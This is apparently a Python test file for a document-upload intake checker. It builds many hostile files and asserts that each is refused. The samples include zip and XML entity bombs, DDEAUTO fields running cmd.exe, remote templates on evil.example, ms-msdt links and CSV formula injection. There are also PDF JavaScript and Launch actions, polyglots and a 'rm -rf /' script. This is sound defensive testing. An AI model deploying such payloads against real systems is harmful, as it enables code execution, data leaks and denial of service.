"""Intake: hostile files, really built here, are refused with what to do."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace

import pytest
import xlsxwriter

from gongkai.formats.limits import DEFAULT
from gongkai.platform.documents.intake import Accepted, Refused, examine

from . import files

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = files.members(files.word())["[Content_Types].xml"]
DOCUMENT = files.members(files.word())["word/document.xml"]
SCRIPT = b"<script>alert(1)</script>"
EICAR_ZIP = files.packed({"run.js": b"WScript.Echo(1)"})


def _encrypted_office() -> bytes:
    return files.compound({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(100)})


def _zip_bomb() -> bytes:
    return files.changed(files.word(), {"word/media/a.bin": bytes(60_000_000)})


def _many() -> bytes:
    return files.changed(files.word(), {f"customXml/item{n}.xml": b"<a/>" for n in range(6000)})


def _nested() -> bytes:
    inner = files.changed(files.sheet(), {"xl/embeddings/b.xlsx": files.sheet()})
    return files.changed(files.word(), {"word/embeddings/a.xlsx": inner})


def _lying() -> bytes:
    """A member that declares ten bytes and unpacks to twenty million."""
    data = bytearray(files.changed(files.word(), {"word/media/a.bin": bytes(20_000_000)}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/media/a.bin")
    size = struct.pack("<I", info.file_size)
    at = 0
    while (at := data.find(size, at)) >= 0:
        data[at : at + 4] = struct.pack("<I", 10)
        at += 4
    return bytes(data)


def _twice() -> bytes:
    out = io.BytesIO(files.word())
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning):
        archive.writestr("word/document.xml", DOCUMENT)
    return out.getvalue()


def _climbing() -> bytes:
    return files.changed(files.word(), {"../../evil.xml": b"<a/>"})


def _docx(**parts: bytes) -> bytes:
    return files.changed(files.word(), {name.replace("__", "/"): content for name, content in parts.items()})


def _related(*rows: tuple[str, str, bool], part: str = "word/_rels/settings.xml.rels") -> bytes:
    return files.changed(files.word(), {part: files.relations(*rows)})


def _field(text: str, *more: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (text, *more))
    xml = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    return files.changed(
        files.word(), {"word/document.xml": DOCUMENT.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr")}
    )


def _macro_type() -> bytes:
    return files.changed(
        files.word(),
        {
            "[Content_Types].xml": TYPES.replace(b"wordprocessingml.document.main", b"macroEnabled.main").replace(
                b"vnd.openxmlformats-officedocument.macroEnabled.main", b"vnd.ms-word.document.macroEnabled.main"
            )
        },
    )


def _entity_bomb() -> bytes:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "哈"}">' for n in range(9))
    xml = f'<?xml version="1.0"?><!DOCTYPE w [{lines}]><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&a8;</w:t></w:r></w:p></w:body></w:document>'
    return files.changed(files.word(), {"word/document.xml": xml.encode()})


def _entity_bomb_wide() -> bytes:
    xml = f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w [<!ENTITY a "b">]><w:document xmlns:w="{W}"><w:body/></w:document>'
    return files.changed(files.word(), {"word/document.xml": xml.encode("utf-16")})


def _xlsm() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.add_worksheet().write(0, 0, "x")
    return files.changed(out.getvalue(), {"xl/vbaProject.bin": files.compound({"dir": b"x"}, ["VBA"])})


ZIPS = {
    "zip_bomb": [("炸弹.docx", _zip_bomb), ("很多.docx", _many), ("重名.docx", _twice), ("越界.docx", _climbing)],
    "damaged": [("谎报.docx", _lying), ("半截.docx", lambda: files.word()[:4000] + b"PK\x05\x06"), ("半截.xlsx", lambda: files.sheet()[:2000])],
    "embedded": [
        ("嵌套.docx", _nested),
        ("对象.docx", lambda: _docx(word__embeddings__oleObject1=files.compound({"\x01Ole10Native": b"MZ"}))),
        ("对象.docx", lambda: files.changed(files.word(), {"word/embeddings/oleObject1.bin": files.compound({"\x01Ole10Native": b"x"})})),
        ("程序.docx", lambda: files.changed(files.word(), {"word/media/image1.png": b"MZ\x90\0" + bytes(200)})),
        ("程序.pptx", lambda: files.slides(more={"ppt/media/run.exe": b"hello"})),
        ("脚本.xlsx", lambda: files.changed(files.sheet(), {"xl/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'})),
        ("压缩包.docx", lambda: files.changed(files.word(), {"word/embeddings/a.zip": EICAR_ZIP})),
        ("关系.docx", lambda: _related(("oleObject", "embeddings/x.bin", False), part="word/_rels/document.xml.rels")),
        ("附件.ofd", lambda: files.ofd(more={"Doc_0/Attachs/a.exe": b"MZ"})),
        ("附件.ofd", lambda: files.ofd(more={"Doc_0/Attachs/a.bin": EICAR_ZIP})),
    ],
    "macros": [
        ("宏.docx", lambda: files.changed(files.word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("宏.docx", _macro_type),
        ("宏.xlsx", _xlsm),
        ("宏表.xlsx", lambda: files.changed(files.sheet(), {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})),
        ("控件.docx", lambda: files.changed(files.word(), {"word/activeX/activeX1.xml": b"<ax/>"})),
        ("宏.doc", lambda: files.old_word(storages=["Macros", "VBA"])),
        ("宏.xls", lambda: files.compound({"Workbook": struct.pack("<HH", 0x0A, 0)}, ["_VBA_PROJECT_CUR", "VBA"])),
        ("宏表.xls", lambda: files.old_sheet((0x85, b"\0\0\0\0\0\x01\x05\0Macro"))),
    ],
    "external": [
        ("模板.docx", lambda: _related(("attachedTemplate", "https://evil.example/a.dotm", True))),
        ("模板.docx", lambda: _related(("attachedTemplate", "\\\\evil.example\\share\\a.dotm", True))),
        ("模板.docx", lambda: _related(("attachedTemplate", "file://evil.example/a.dotm", True))),
        ("图片.docx", lambda: _related(("image", "http://evil.example/pixel.png", True), part="word/_rels/document.xml.rels")),
        ("框架.docx", lambda: _related(("frame", "http://evil.example/", True), part="word/_rels/webSettings.xml.rels")),
        ("暗指.docx", lambda: _related(("image", "http://evil.example/pixel.png", False), part="word/_rels/document.xml.rels")),
        ("链接.docx", lambda: _related(("hyperlink", "javascript:alert(1)", True), part="word/_rels/document.xml.rels")),
        ("链接.docx", lambda: _related(("hyperlink", "ms-msdt:/id PCWDiagnostic", True), part="word/_rels/document.xml.rels")),
        ("域.docx", lambda: _field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        ("域.docx", lambda: _field(" DD", "EAUTO cmd")),
        ("域.docx", lambda: _field(" INCLUDEPICTURE http://evil.example/a.png")),
        ("表.xlsx", lambda: files.changed(files.sheet(), {"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="x"><ddeLink ddeService="cmd"/></externalLink>'})),
        ("表.xlsx", lambda: files.changed(files.sheet(), {"xl/externalLinks/_rels/externalLink1.xml.rels": files.relations(("externalLinkPath", "http://evil.example/a.xlsx", True))})),
    ],
    "entities": [("实体.docx", _entity_bomb), ("实体.docx", _entity_bomb_wide), ("实体.ofd", lambda: files.ofd(more={"Doc_0/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}))],
    "encrypted": [
        ("加密.docx", _encrypted_office),
        ("加密.doc", lambda: files.old_word(flags=0x0100)),
        ("加密.xls", lambda: files.old_sheet((0x2F, bytes(54)))),
    ],
    "template": [("模板.docx", lambda: files.changed(files.word(), {"[Content_Types].xml": TYPES.replace(b"document.main", b"template.main")}))],
    "polyglot": [
        ("两面.docx", lambda: files.word() + b"\n<script>alert(1)</script>"),
        ("两面.docx", lambda: _shifted()),
        ("两面.doc", lambda: files.old_word() + EICAR_ZIP),
    ],
}  # fmt: skip


def _shifted() -> bytes:
    """A small archive in front of the document: which of the two a program opens is its own choice."""
    return EICAR_ZIP + files.word()


PDFS = {
    "encrypted": [lambda: files.pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 5 0 R")],
    "active": [
        lambda: files.pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        lambda: files.pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        lambda: files.pdf(b"<< /S /Launch /F (cmd.exe) >>", page=b"/AA << /O 6 0 R >>"),
        lambda: files.pdf(b"<< /S 7 0 R /JS (x) >>", b"/JavaScript", catalog=b"/OpenAction 6 0 R"),
        lambda: files.pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"),
        lambda: files.pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) >> >>]"),
        lambda: files.pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        lambda: files.pdf(catalog=b"/AcroForm << /XFA (x) >>"),
        lambda: files.pdf(catalog=b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>"),
        lambda: _packed_action(),
    ],
    "embedded": [
        lambda: files.pdf(b"<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>", files.stream(b"MZ"), catalog=b"/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>"),
        lambda: files.pdf(b"<< /Type /Filespec /F (gongkai-report.json) /EF << /F 7 0 R >> >>", files.stream(b"MZ"), catalog=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"),
    ],
    "polyglot": [
        lambda: files.pdf() + EICAR_ZIP,
        lambda: b"MZ" + bytes(100) + files.pdf(),
        lambda: b"GIF89a/*" + files.pdf(),
        lambda: files.pdf() + b"<html><script>alert(1)</script></html>",
        lambda: _zip_in_pdf(),
    ],
    "damaged": [lambda: files.pdf()[:300], lambda: b"%PDF-1.7\n%%EOF"],
    "zip_bomb": [lambda: files.pdf(files.stream(bytes(300_000_000), deflate=True))],
}  # fmt: skip


def _packed_action() -> bytes:
    """The action stands in a packed stream of objects, where no search of the raw bytes sees it."""
    return _with_object_stream(b"7 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")


def _with_object_stream(inside: bytes) -> bytes:
    """A PDF whose table of objects is a stream, as word processors write it."""
    held = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        6: files.stream(inside, b"/Type /ObjStm /N 1 /First 4", deflate=True),
    }
    out = b"%PDF-1.7\n"
    rows = {0: (0, 0, 65535), 7: (2, 6, 0)}
    for number, body in held.items():
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows[8] = (1, len(out), 0)
    table = b"".join(struct.pack(">BIH", *rows.get(n, (0, 0, 0))) for n in range(9))
    packed = zlib.compress(table)
    start = len(out)
    out += (
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(packed), packed)
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def _zip_in_pdf() -> bytes:
    """A zip whose end stands inside the last comment of the PDF."""
    archive = bytearray(EICAR_ZIP)
    archive[-2:] = struct.pack("<H", 7)
    return files.pdf()[:-6] + bytes(archive) + b"\n%%EOF\n"


PICTURES = {
    "polyglot": [
        ("两面.gif", lambda: b"GIF89a/*" + files.picture("GIF")[8:] + b"*/=1;alert(1)"),
        ("网页.jpg", lambda: files.picture("JPEG", comment=b"<html><body onload=alert(1)>")),
        ("网页.png", lambda: files.picture("PNG") + b"<script>alert(1)</script>"),
        ("压缩包.png", lambda: files.picture("PNG") + EICAR_ZIP),
        ("程序.jpg", lambda: files.picture("JPEG") + b"MZ\x90\0program"),
        ("文档.png", lambda: files.picture("PNG") + files.pdf()[20:] + b"%PDF-1.4"),
        ("声音.mp3", lambda: b"ID3\x04\0\0\0\0\0\x3a" + SCRIPT.ljust(68, b"\0") + files.sound()[20:]),
        ("影片.mp4", lambda: files.film(files.box(b"udta", files.box(b"name", SCRIPT)))),
        ("压缩包.mp4", lambda: files.film() + files.box(b"free", EICAR_ZIP)),
    ],
    "picture_too_large": [("炸弹.png", lambda: _png_bomb(60_000, 60_000)), ("炸弹.gif", lambda: _gif_bomb())],
    "damaged": [
        ("半截.jpg", lambda: files.picture("JPEG", size=(400, 400))[:700]),
        ("半截.png", lambda: files.picture("PNG")[:60]),
        ("假.mp3", lambda: b"ID3" + bytes(500)),
        ("假.mp4", lambda: files.film() + SCRIPT),
        ("无.mp4", lambda: files.box(b"ftyp", b"isom\0\0\2\0") + files.box(b"mdat", b"x")),
    ],
}


def _png_bomb(width: int, height: int) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1_000_000)))
        + chunk(b"IEND", b"")
    )


def _gif_bomb() -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 65000, 65000, 0, 0, 0)
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, 65000, 65000, 0)
        + b"\x02\x02\x44\x01\0\x3b"
    )


TEXTS = {
    "svg": [("图.svg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), ("图.png", b"<svg onload=alert(1)>"), ("图.txt", "<svg/onload=alert(1)>".encode("utf-16"))],
    "html": [
        ("页.html", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("页.txt", b"hello <script src=//evil.example></script>"),
        ("页.doc", "<html xmlns:o='urn:schemas-microsoft-com:office:office'><body>网页另存的 Word</body></html>".encode()),
        ("表.xls", "<table><tr><td>网页另存的 Excel</td></tr></table>".encode("gb18030")),
        ("页.csv", b"a,b\n<img src=x onerror=alert(1)>,1"),
        ("数据.xml", b"<?xml version='1.0'?><data/>"),
        ("页.txt", b"\xff\xfe" + "<html><script>alert(1)</script>".encode("utf-16-le")),
    ],
    "commands": [("表.csv", b"name,value\n=cmd|'/C calc'!A0,1"), ("表.csv", b'"=WEBSERVICE(""http://evil.example"")",1')],
    "unknown_type": [
        ("程序.exe", b"MZ\x90\0" + bytes(300)),
        ("程序.pdf", b"\x7fELF" + bytes(300)),
        ("脚本.txt", b"#!/bin/sh\nrm -rf /"),
        ("包.zip", EICAR_ZIP),
        ("包.rar", b"Rar!\x1a\x07\x00" + bytes(50)),
        ("快捷.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(80)),
        ("文.rtf", b"{\\rtf1 hello}"),
        ("文.odt", files.packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"})),
        ("程序.jar", files.packed({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe\xba\xbe"})),
        ("幻灯.ppt", files.compound({"PowerPoint Document": b"x"})),
        ("安装.msi", files.compound({"\u4840\u3f7f": b"x"})),
        ("图.webp", b"RIFF\x10\0\0\0WEBPVP8 " + bytes(20)),
        ("图.heic", b"\0\0\0\x18ftypheic" + bytes(40)),
        ("乱.dat", bytes(range(256)) * 4),
        ("图.tiff", b"II*\0" + bytes(40)),
    ],
}  # fmt: skip


@pytest.mark.parametrize(
    ("code", "name", "build"), [(code, name, build) for code, rows in ZIPS.items() for name, build in rows]
)
def test_hostile_office_files_are_refused(code: str, name: str, build: Callable[[], bytes]) -> None:
    _refused(code, name, build())


@pytest.mark.parametrize(("code", "build"), [(code, build) for code, rows in PDFS.items() for build in rows])
def test_hostile_pdfs_are_refused(code: str, build: Callable[[], bytes]) -> None:
    _refused(code, "附件.pdf", build())


@pytest.mark.parametrize(
    ("code", "name", "build"), [(code, name, build) for code, rows in PICTURES.items() for name, build in rows]
)
def test_hostile_pictures_sounds_and_films_are_refused(code: str, name: str, build: Callable[[], bytes]) -> None:
    _refused(code, name, build())


@pytest.mark.parametrize(
    ("code", "name", "data"), [(code, name, data) for code, rows in TEXTS.items() for name, data in rows]
)
def test_pages_scripts_and_foreign_files_are_refused(code: str, name: str, data: bytes) -> None:
    _refused(code, name, data)


def _refused(code: str, name: str, data: bytes) -> None:
    seen = examine(name, data)

    assert isinstance(seen, Refused), seen
    assert seen.code == code, seen
    assert "请" in seen.zh or code == "unknown_type"
    assert (seen.zh.endswith("。") and seen.en.isascii()) or "×" in seen.en
    assert not seen.retry


def test_limits_are_those_given() -> None:
    small = replace(DEFAULT, members=5)
    seen = examine("a.docx", files.word(), small)

    assert isinstance(seen, Refused)
    assert seen.code == "zip_bomb"


def test_a_chart_may_hold_its_workbook() -> None:
    seen = examine(
        "图表.docx", files.changed(files.word(), {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": files.sheet()})
    )

    assert isinstance(seen, Accepted), seen


def test_links_that_a_person_clicks_are_no_harm() -> None:
    rows = [
        ("hyperlink", target, True)
        for target in ("https://www.example/", "mailto:a@b.example", "#top", "../b.docx", "file:///D:/b.docx")
    ]
    seen = examine("链接.docx", _related(*rows, part="word/_rels/document.xml.rels"))
    page = examine(
        "链接.pdf",
        files.pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.example/) >> >>]"
        ),
    )

    assert isinstance(seen, Accepted), seen
    assert isinstance(page, Accepted), page
